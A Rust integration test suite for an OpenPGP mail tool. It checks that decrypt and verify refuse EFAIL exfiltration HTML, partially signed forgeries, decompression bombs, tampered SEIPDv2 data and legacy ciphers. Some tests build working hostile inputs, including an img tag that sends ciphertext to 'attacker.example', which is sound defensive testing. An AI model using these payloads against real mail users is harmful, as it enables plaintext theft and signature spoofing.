//! Opening OpenPGP mail never lies (issue 10 items 1, 2, 4, 5, 7; issue 14
//! items 2, 3, 4, 6): decrypt opens only what is encrypted as a whole,
//! verify's exit 0 means every visible byte is signed, and crafted data
//! (bombs, never-encrypted data, tampered chunks, legacy ciphers) is
//! refused with what it is. Messages come from the real gpg, sqop and rnp,
//! or are crafted with sequoia's serializer.

mod common;
use common::*;

use std::io::Write;
use std::path::Path;

use openpgp::cert::Cert;
use openpgp::parse::Parse;
use openpgp::policy::StandardPolicy;
use openpgp::serialize::stream::{Armorer, Compressor, Encryptor, LiteralWriter, Message};
use openpgp::serialize::SerializeInto;
use openpgp::types::{AEADAlgorithm, CompressionAlgorithm};
use sequoia_openpgp as openpgp;

const SECRET: &str = "Meet at noon. The password is hunter2.";

/// `text` as the MIME entity a PGP/MIME message encrypts.
fn entity(text: &str) -> Vec<u8> {
    format!("Content-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n").into_bytes()
}

fn path_str(path: &Path) -> &str {
    path.to_str().expect("UTF-8 path")
}

/// A gpg home with Alice's secret key and Bob's certificate.
fn gpg_alice() -> Gpg {
    let gpg = Gpg::new();
    let alice = testdata("keys/alice.sec.asc");
    let bob = testdata("keys/bob.pub.asc");
    gpg.run(&["--import", path_str(&alice), path_str(&bob)], b"")
        .ok();
    gpg
}

/// gpg's armored output for `args` over `input`, as Alice, to Bob.
fn gpg_alice_out(gpg: &Gpg, args: &[&str], input: &[u8]) -> Vec<u8> {
    let mut all = vec![
        "--trust-model",
        "always",
        "--armor",
        "-u",
        "alice@example.org",
        "-r",
        "bob@example.net",
    ];
    all.extend_from_slice(args);
    gpg.run(&all, input).ok().stdout
}

/// Alice's signed and encrypted armored message to Bob, made by gpg.
fn sealed_block() -> Vec<u8> {
    gpg_alice_out(&gpg_alice(), &["--sign", "--encrypt"], &entity(SECRET))
}

/// A message from Alice to Bob with extra header `fields` and `body`.
fn mail(fields: &str, body: &[u8]) -> Vec<u8> {
    let mut message = crlf(
        format!(
            "From: alice@example.org\nTo: bob@example.net\nSubject: test\nMIME-Version: 1.0\n{fields}\n"
        )
        .as_bytes(),
    );
    message.extend_from_slice(&crlf(body));
    message
}

/// `text` with `block` spliced in where `{}` is.
fn around(text: &str, block: &[u8]) -> Vec<u8> {
    let (before, after) = text.split_once("{}").expect("placeholder");
    [before.as_bytes(), block, after.as_bytes()].concat()
}

#[track_caller]
fn assert_refused(run: &Run, words: &str) {
    assert!(
        run.stdout.is_empty(),
        "output released: {}",
        run.stdout_text()
    );
    assert!(
        run.stderr.contains(words),
        "stderr lacks {words:?}:\n{}",
        run.stderr
    );
}

/// A binary OpenPGP message to Bob's shipped certificate: the serializer
/// stack `wrap` (compressors) around a literal packet of `data`.
fn crafted_to_bob(
    armor: bool,
    seipd_v2: bool,
    compression: &[CompressionAlgorithm],
    data: &dyn Fn(&mut dyn Write),
) -> Vec<u8> {
    let cert = Cert::from_file(testdata("keys/bob.pub.asc")).unwrap();
    let policy = StandardPolicy::new();
    let recipients = cert
        .keys()
        .with_policy(&policy, None)
        .supported()
        .for_transport_encryption();
    let mut sink = Vec::new();
    let mut message = Message::new(&mut sink);
    if armor {
        message = Armorer::new(message).build().unwrap();
    }
    let mut encryptor = Encryptor::for_recipients(message, recipients);
    if seipd_v2 {
        encryptor = encryptor.aead_algo(AEADAlgorithm::default());
    }
    let mut message = encryptor.build().unwrap();
    for &algo in compression {
        message = Compressor::new(message).algo(algo).build().unwrap();
    }
    let mut literal = LiteralWriter::new(message).build().unwrap();
    data(&mut literal);
    literal.finalize().unwrap();
    sink
}

/// An application/octet-stream entity of `count` zero bytes, written in
/// pieces.
fn zeros(count: usize) -> impl Fn(&mut dyn Write) {
    move |w: &mut dyn Write| {
        w.write_all(b"Content-Type: application/octet-stream\r\n\r\n")
            .unwrap();
        let chunk = vec![0u8; 1 << 20];
        let mut left = count;
        while left > 0 {
            let n = left.min(chunk.len());
            w.write_all(&chunk[..n]).unwrap();
            left -= n;
        }
    }
}

// ---- issue 10 item 1: EFAIL direct exfiltration ----

#[test]
fn efail_ciphertext_inside_attacker_html_is_refused() {
    let (_, bob) = alice_and_bob();
    let body = around(
        "<html><body><p>Hi Bob</p><img src=\"http://attacker.example/?{}\"></body></html>\n",
        &sealed_block(),
    );
    let message = mail("Content-Type: text/html; charset=us-ascii\n", &body);
    let out = bob.file("out.eml");
    let run = bob
        .run(&["decrypt", "-o", path_str(&out)], &message)
        .expect_code(65);
    assert_refused(&run, "EFAIL");
    assert!(!out.exists(), "an output file was written");
}

#[test]
fn efail_ciphertext_between_attacker_parts_is_refused() {
    let (_, bob) = alice_and_bob();
    let body = around(
        "--m\nContent-Type: text/html\n\n<img src=\"http://attacker.example/?\n\
         --m\nContent-Type: text/plain\n\n{}\n\
         --m\nContent-Type: text/html\n\n\">\n--m--\n",
        &sealed_block(),
    );
    let message = mail("Content-Type: multipart/mixed; boundary=\"m\"\n", &body);
    let run = bob.run(&["decrypt"], &message).expect_code(65);
    assert_refused(&run, "EFAIL");
    // verify goes the same way: no report from spliced plaintext.
    let run = bob.run(&["verify"], &message);
    assert_ne!(run.code, 0, "verify accepted it:\n{}", run.stderr);
}

#[test]
fn inline_message_that_is_the_whole_body_opens_as_text() {
    let (_, bob) = alice_and_bob();
    let body = around("\n  \n{}\n\n", &sealed_block());
    let message = mail("Content-Type: text/html; charset=us-ascii\n", &body);
    let run = bob.run(&["decrypt"], &message).ok();
    let text = run.stdout_text();
    let (header, body) = text.split_once("\r\n\r\n").expect("header and body");
    assert!(body.contains(SECRET), "{text}");
    assert!(
        header.contains("Content-Type: text/plain; charset=utf-8"),
        "inline plaintext must not be shown as HTML:\n{text}"
    );
    assert!(!header.contains("text/html"), "{text}");
    assert!(
        run.stderr.contains("Good signature from alice@example.org"),
        "{}",
        run.stderr
    );
}

// ---- issue 10 item 2 and issue 14 item 2: partial signatures, inline forms ----

/// Alice's clear-signed `text`, made by sqop.
fn clearsigned(text: &str) -> Vec<u8> {
    sqop_inline_sign("clearsigned", text)
}

fn sqop_inline_sign(form: &str, text: &str) -> Vec<u8> {
    let mut child = std::process::Command::new("sqop")
        .args(["inline-sign", &format!("--as={form}")])
        .arg(testdata("keys/alice.sec.asc"))
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("sqop");
    child
        .stdin
        .take()
        .unwrap()
        .write_all(text.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "sqop inline-sign failed");
    out.stdout
}

#[test]
fn verify_reads_every_inline_signed_form() {
    let (_, bob) = alice_and_bob();
    let gpg = gpg_alice();
    let forms: Vec<(&str, Vec<u8>)> = vec![
        (
            "gpg --armor --sign",
            gpg_alice_out(&gpg, &["--sign"], b"Signed by gpg.\n"),
        ),
        (
            "gpg --clearsign",
            gpg_alice_out(&gpg, &["--clearsign"], b"Clear-signed by gpg.\n"),
        ),
        (
            "sqop inline-sign --as=text",
            sqop_inline_sign("text", "Signed by sqop.\n"),
        ),
        (
            "sqop inline-sign --as=clearsigned",
            clearsigned("Clear-signed by sqop.\n"),
        ),
        (
            "gpg --armor --sign --encrypt",
            gpg_alice_out(&gpg, &["--sign", "--encrypt"], b"Signed and encrypted.\n"),
        ),
    ];
    for (form, block) in forms {
        let message = mail("Content-Type: text/plain; charset=us-ascii\n", &block);
        let run = bob.run(&["verify"], &message);
        assert_eq!(run.code, 0, "{form}: verify failed:\n{}", run.stderr);
        assert!(
            run.stderr.contains("Good signature from alice@example.org"),
            "{form}:\n{}",
            run.stderr
        );
    }
}

#[track_caller]
fn assert_partial(bob: &Home, message: &[u8], part: &str) {
    let run = bob.run(&["verify"], message).expect_code(1);
    assert!(
        run.stderr.contains("only part of this message is signed"),
        "{}",
        run.stderr
    );
    let run = bob.run(&["--json", "verify"], message).expect_code(1);
    let report: serde_json::Value = serde_json::from_slice(&run.stdout).expect("JSON");
    assert_eq!(report["signatures"][0]["status"], "good", "{report}");
    let parts = report["unsigned_parts"].as_array().expect("unsigned_parts");
    assert!(
        parts.iter().any(|p| p.as_str().unwrap().contains(part)),
        "unsigned_parts does not name {part:?}: {report}"
    );
}

#[test]
fn clearsigned_text_with_unsigned_text_around_it_is_partial() {
    let (_, bob) = alice_and_bob();
    let block = clearsigned("I agree to pay 100 EUR.\n");
    let plain = "Content-Type: text/plain; charset=us-ascii\n";
    // The whole body signed: exit 0.
    bob.run(&["verify"], &mail(plain, &block)).ok();
    assert_partial(
        &bob,
        &mail(
            plain,
            &around("Correction: make that 900 EUR.\n\n{}", &block),
        ),
        "text before the signed block in the body (text/plain)",
    );
    assert_partial(
        &bob,
        &mail(plain, &around("{}\nP.S. and send it to eve.\n", &block)),
        "text after the signed block in the body (text/plain)",
    );
}

#[test]
fn clearsigned_text_in_an_html_comment_is_partial() {
    let (_, bob) = alice_and_bob();
    let body = around(
        "<html><body><p>Please wire 900 EUR to eve.</p><!--\n{}\n--></body></html>\n",
        &clearsigned("Nothing to see here.\n"),
    );
    assert_partial(
        &bob,
        &mail("Content-Type: text/html; charset=us-ascii\n", &body),
        "text before the signed block in the body (text/html)",
    );
}

#[test]
fn clearsigned_part_beside_an_unsigned_part_is_partial() {
    let (_, bob) = alice_and_bob();
    let body = around(
        "--m\nContent-Type: text/plain\n\n{}\n\
         --m\nContent-Type: text/html\n\n<p>Pay eve 900 EUR.</p>\n--m--\n",
        &clearsigned("I agree to pay 100 EUR.\n"),
    );
    assert_partial(
        &bob,
        &mail("Content-Type: multipart/mixed; boundary=\"m\"\n", &body),
        "part 2 (text/html)",
    );
}

#[test]
fn decrypt_reports_a_partial_signature_inside() {
    let (alice, bob) = alice_and_bob();
    let inner = mail(
        "To: bob@example.net\nContent-Type: text/plain; charset=us-ascii\n",
        &around("Unsigned words.\n{}", &clearsigned("Signed words.\n")),
    );
    let sealed = alice
        .run(&["encrypt", "--no-sign", "-r", "bob@example.net"], &inner)
        .ok()
        .stdout;
    let out = bob.file("out.eml");
    // The output is written, and the exit code says the check failed.
    let run = bob
        .run(&["--json", "decrypt", "-o", path_str(&out)], &sealed)
        .expect_code(1);
    assert!(std::fs::read(&out).is_ok_and(|m| !m.is_empty()));
    let report: serde_json::Value = serde_json::from_slice(&run.stdout).expect("JSON");
    assert_eq!(report["signatures"][0]["status"], "good", "{report}");
    assert!(
        report["unsigned_parts"][0]
            .as_str()
            .is_some_and(|p| p.contains("text before the signed block")),
        "{report}"
    );
    let run = bob.run(&["decrypt"], &sealed).expect_code(1);
    assert!(
        run.stderr.contains("only part of this message is signed"),
        "{}",
        run.stderr
    );
}

// ---- issue 10 item 4: never-encrypted data ----

#[test]
fn decrypt_refuses_data_that_was_never_encrypted() {
    let (_, bob) = alice_and_bob();
    let gpg = gpg_alice();
    let literal = gpg
        .run(&["--armor", "--store"], SECRET.as_bytes())
        .ok()
        .stdout;
    let compressed = {
        let mut sink = Vec::new();
        let message = Armorer::new(Message::new(&mut sink)).build().unwrap();
        let message = Compressor::new(message)
            .algo(CompressionAlgorithm::Zip)
            .build()
            .unwrap();
        let mut w = LiteralWriter::new(message).build().unwrap();
        w.write_all(SECRET.as_bytes()).unwrap();
        w.finalize().unwrap();
        sink
    };
    let signed = gpg_alice_out(&gpg, &["--sign"], SECRET.as_bytes());
    for (what, block) in [
        ("literal", literal),
        ("compressed", compressed),
        ("signed", signed),
    ] {
        let inline = mail("Content-Type: text/plain\n", &block);
        let run = bob.run(&["decrypt"], &inline);
        assert_eq!(run.code, 65, "{what} inline: {}", run.stderr);
        assert_refused(&run, "never encrypted");
        let pgp_mime = mail(
            "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"b\"\n",
            &around(
                "--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n\
                 --b\nContent-Type: application/octet-stream\n\n{}\n--b--\n",
                &block,
            ),
        );
        let run = bob.run(&["decrypt"], &pgp_mime);
        assert_eq!(run.code, 65, "{what} PGP/MIME: {}", run.stderr);
        assert_refused(&run, "never encrypted");
    }
}

// ---- issue 10 item 5: decompression bombs ----

fn pgp_mime(ciphertext: &[u8], part_fields: &str) -> Vec<u8> {
    mail(
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"b\"\n",
        &around(
            &format!(
                "--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n\
                 --b\nContent-Type: application/octet-stream\n{part_fields}\n{{}}\n--b--\n"
            ),
            ciphertext,
        ),
    )
}

#[test]
fn nested_compression_is_refused() {
    let (_, bob) = alice_and_bob();
    let bomb = crafted_to_bob(
        true,
        false,
        &[
            CompressionAlgorithm::Zlib,
            CompressionAlgorithm::BZip2,
            CompressionAlgorithm::Zlib,
        ],
        &zeros(32 << 20),
    );
    assert!(bomb.len() < 16 * 1024, "bomb is {} bytes", bomb.len());
    let out = bob.file("out.eml");
    let run = bob
        .run(&["decrypt", "-o", path_str(&out)], &pgp_mime(&bomb, ""))
        .expect_code(65);
    assert_refused(&run, "compressed more than once");
    assert!(!out.exists());
}

#[test]
fn decompressed_size_is_capped() {
    let (_, bob) = alice_and_bob();
    // One ordinary compression layer, 8 MiB of plaintext.
    let message = pgp_mime(
        &crafted_to_bob(true, false, &[CompressionAlgorithm::Zip], &zeros(8 << 20)),
        "",
    );
    let run = bob
        .run(&["decrypt", "--max-decompressed", "1M"], &message)
        .expect_code(65);
    assert_refused(&run, "expands to more than 1048576 bytes");
    let run = bob.run(&["decrypt"], &message).ok();
    assert!(run.stdout.len() > 8 << 20);
    // By default: 100 times the input, at least 64 MiB.
    let bomb = pgp_mime(
        &crafted_to_bob(true, false, &[CompressionAlgorithm::Zip], &zeros(80 << 20)),
        "",
    );
    assert!(bomb.len() < 640 * 1024, "bomb is {} bytes", bomb.len());
    let run = bob.run(&["decrypt"], &bomb).expect_code(65);
    assert_refused(&run, "expands to more than 67108864 bytes");
    // verify, which decrypts, too.
    let run = bob.run(&["verify"], &bomb).expect_code(65);
    assert!(
        run.stderr.contains("expands to more than"),
        "{}",
        run.stderr
    );
}

// ---- issue 10 item 7: SEIPDv2 tampering is not "no key" ----

/// Offset of the first encrypted chunk in a binary SEIPDv2 message.
fn first_chunk_offset(message: &[u8]) -> usize {
    let pile = openpgp::PacketPile::from_bytes(message).unwrap();
    let mut offset = 0;
    for packet in pile.children() {
        match packet {
            openpgp::Packet::PKESK(_) => offset += packet.to_vec().unwrap().len(),
            openpgp::Packet::SEIP(openpgp::packet::SEIP::V2(_)) => {
                // CTB, one partial-length octet, version, cipher, AEAD,
                // chunk size, 32 bytes of salt.
                return offset + 2 + 4 + 32;
            }
            other => panic!("unexpected packet {other:?}"),
        }
    }
    panic!("no SEIPDv2 packet");
}

#[test]
fn seipd_v2_tampering_is_an_integrity_failure() {
    let (_, bob) = alice_and_bob();
    let text = entity(&"A line of text that fills several chunks.\n".repeat(500));
    let clean = crafted_to_bob(false, true, &[], &|w| w.write_all(&text).unwrap());
    let armored = |data: &[u8]| {
        let mut w = openpgp::armor::Writer::new(Vec::new(), openpgp::armor::Kind::Message).unwrap();
        w.write_all(data).unwrap();
        w.finalize().unwrap()
    };
    let run = bob.run(&["decrypt"], &pgp_mime(&armored(&clean), "")).ok();
    assert!(run.stdout_text().contains("fills several chunks"));
    let first = first_chunk_offset(&clean);
    for (what, at) in [
        ("first chunk", first + 20),
        ("a later chunk", clean.len() - 200),
    ] {
        let mut tampered = clean.clone();
        tampered[at] ^= 0x01;
        let run = bob.run(&["decrypt"], &pgp_mime(&armored(&tampered), ""));
        assert_eq!(run.code, 65, "{what}: {}", run.stderr);
        assert!(
            !run.stderr.contains("none of your secret keys"),
            "{what}: blamed the key:\n{}",
            run.stderr
        );
        assert_refused(&run, "no plaintext was released");
    }
}

// ---- issue 14 item 3: transfer encoding on the encrypted part ----

#[test]
fn encrypted_part_in_base64_or_quoted_printable_decrypts() {
    use base64::Engine;
    let (_, bob) = alice_and_bob();
    let block = sealed_block();
    let b64 = base64::engine::general_purpose::STANDARD.encode(&block);
    let wrapped: Vec<u8> = b64
        .as_bytes()
        .chunks(76)
        .flat_map(|l| [l, b"\n"].concat())
        .collect();
    let qp = String::from_utf8(block.clone())
        .unwrap()
        .replace('=', "=3D");
    for (encoding, body) in [("base64", wrapped), ("quoted-printable", qp.into_bytes())] {
        let message = pgp_mime(&body, &format!("Content-Transfer-Encoding: {encoding}\n"));
        let run = bob.run(&["decrypt"], &message);
        assert_eq!(run.code, 0, "{encoding}: {}", run.stderr);
        assert!(run.stdout_text().contains(SECRET), "{encoding}");
    }
}

// ---- issue 14 item 4: algorithms refused by policy ----

#[test]
fn legacy_ciphers_are_refused_by_name_and_readable_on_request() {
    let (_, bob) = alice_and_bob();
    let gpg = gpg_alice();
    for cipher in ["CAST5", "3DES", "IDEA"] {
        let block = gpg_alice_out(
            &gpg,
            &["--cipher-algo", cipher, "--encrypt"],
            &entity(SECRET),
        );
        let message = pgp_mime(&block, "");
        let run = bob.run(&["decrypt"], &message).expect_code(77);
        assert_refused(&run, &format!("encrypted with {cipher}"));
        assert!(run.stderr.contains("--allow-legacy"), "{}", run.stderr);
        assert!(!run.stderr.contains("damaged"), "{}", run.stderr);
        let run = bob.run(&["decrypt", "--allow-legacy"], &message).ok();
        assert!(run.stdout_text().contains(SECRET), "{cipher}");
    }
}

#[test]
fn draft_aead_packet_is_refused_by_name() {
    let (_, bob) = alice_and_bob();
    let rnp_home = tempfile::tempdir().unwrap();
    let home = path_str(rnp_home.path());
    let imported = std::process::Command::new("rnpkeys")
        .args(["--homedir", home, "--import"])
        .arg(testdata("keys/bob.pub.asc"))
        .output()
        .expect("rnpkeys");
    assert!(imported.status.success());
    let mut child = std::process::Command::new("rnp")
        .args([
            "--homedir",
            home,
            "-e",
            "--aead=ocb",
            "-r",
            "bob@example.net",
            "--armor",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("rnp");
    child
        .stdin
        .take()
        .unwrap()
        .write_all(&entity(SECRET))
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "rnp --aead failed");
    let run = bob
        .run(&["decrypt"], &pgp_mime(&out.stdout, ""))
        .expect_code(77);
    assert_refused(&run, "draft-era AEAD");
    assert!(!run.stderr.contains("damaged"), "{}", run.stderr);
}

// ---- issue 14 item 6: MIME-Version and transfer encoding of the output ----

#[test]
fn decrypted_output_is_valid_mime() {
    let (_, bob) = alice_and_bob();
    let gpg = gpg_alice();
    let block = gpg_alice_out(&gpg, &["--encrypt"], "Grüße aus Köln\n".as_bytes());
    let mut message = crlf(
        b"From: alice@example.org\nTo: bob@example.net\nSubject: inline\n\
          Content-Type: text/plain; charset=us-ascii\nContent-Transfer-Encoding: 7bit\n\n",
    );
    message.extend_from_slice(&crlf(&block));
    let text = bob.run(&["decrypt"], &message).ok().stdout_text();
    for field in [
        "MIME-Version: 1.0\r\n",
        "Content-Type: text/plain; charset=utf-8\r\n",
        "Content-Transfer-Encoding: 8bit\r\n",
    ] {
        assert!(text.contains(field), "lacks {field:?}:\n{text}");
    }
    assert!(!text.contains("7bit"), "{text}");
    assert!(text.contains("Grüße aus Köln"), "{text}");

    // PGP/MIME whose outer header has no MIME-Version (some senders).
    let inner = crlf(b"Content-Type: text/plain; charset=us-ascii\n\nhello\n");
    let block = gpg_alice_out(&gpg, &["--encrypt"], &inner);
    let message: Vec<u8> = pgp_mime(&block, "")
        .split_inclusive(|&b| b == b'\n')
        .filter(|line| !line.starts_with(b"MIME-Version"))
        .flatten()
        .copied()
        .collect();
    let text = bob.run(&["decrypt"], &message).ok().stdout_text();
    assert!(text.contains("MIME-Version: 1.0\r\n"), "{text}");
}
